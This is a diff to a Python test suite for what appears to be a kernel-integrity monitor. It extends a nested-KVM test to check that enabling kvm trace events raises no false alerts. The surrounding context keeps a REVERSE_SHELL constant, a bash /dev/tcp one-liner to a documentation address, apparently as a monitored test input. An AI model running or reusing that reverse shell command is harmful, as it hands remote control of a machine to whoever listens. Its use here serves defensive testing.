@@ -26,6 +26,7 @@ from test_ps import argus_ps, compare, truth
 REVERSE_SHELL = "bash -c 'exec bash -i >& /dev/tcp/192.0.2.100/4444 0>&1'"
 
 SLEEP = "500ms"
+TRACING = "/sys/kernel/tracing"
 
 
 def boot(tag):
@@ -291,7 +292,9 @@ def test_kvm_vendor_module_loaded_while_watched_raises_nothing(nested, tmp_path)
     are sites of the kernel's own, judged as static call trampolines (into
     a listed module: fine); the build before read each as "module text
     differs from its first sight", a false CRITICAL when argus saw kvm
-    before kvm-amd came.  The inner guest is started again after."""
+    before kvm-amd came.  Then the inner guest starts again while watched,
+    with kvm's trace events on (their static keys rewrite jump sites in
+    both modules' text): nothing either."""
     outer, inner = nested
     inner.stop()
     outer.check("rmmod kvm_amd; rmmod kvm")
@@ -310,7 +313,22 @@ def test_kvm_vendor_module_loaded_while_watched_raises_nothing(nested, tmp_path)
         time.sleep(20 * svc.sleep_s)    # passes of the modules' window over kvm's text
         svc.expect_alerts(since)
         assert_kernel_read(outer)
+        # a VM started while watched, with kvm's trace events on (perf kvm
+        # stat, trace-cmd -e kvm): each event's static key flips the jump
+        # sites in kvm's text and in kvm-amd's, whose calls to kvm's
+        # tracepoints are jump sites of kvm-amd's own on kvm's keys
+        outer.check(f"mountpoint -q {TRACING} || mount -t tracefs none {TRACING}; "
+                    f"echo 1 >{TRACING}/events/kvm/enable")
+        inner.start(timeout=90)
+        hits = int(outer.check(f"grep -c kvm_entry {TRACING}/trace || true").strip() or 0)
+        assert hits > 0, "kvm's trace events were not on while the VM ran"
+        time.sleep(4 * svc.sleep_s)
+        outer.check(f"echo 0 >{TRACING}/events/kvm/enable; echo >{TRACING}/trace")
+        time.sleep(20 * svc.sleep_s)
+        svc.expect_alerts(since)
     finally:
         svc.stop()
-        inner.start(timeout=90)
+        outer.run(f"echo 0 >{TRACING}/events/kvm/enable")
+        if not inner.pid:
+            inner.start(timeout=90)
 
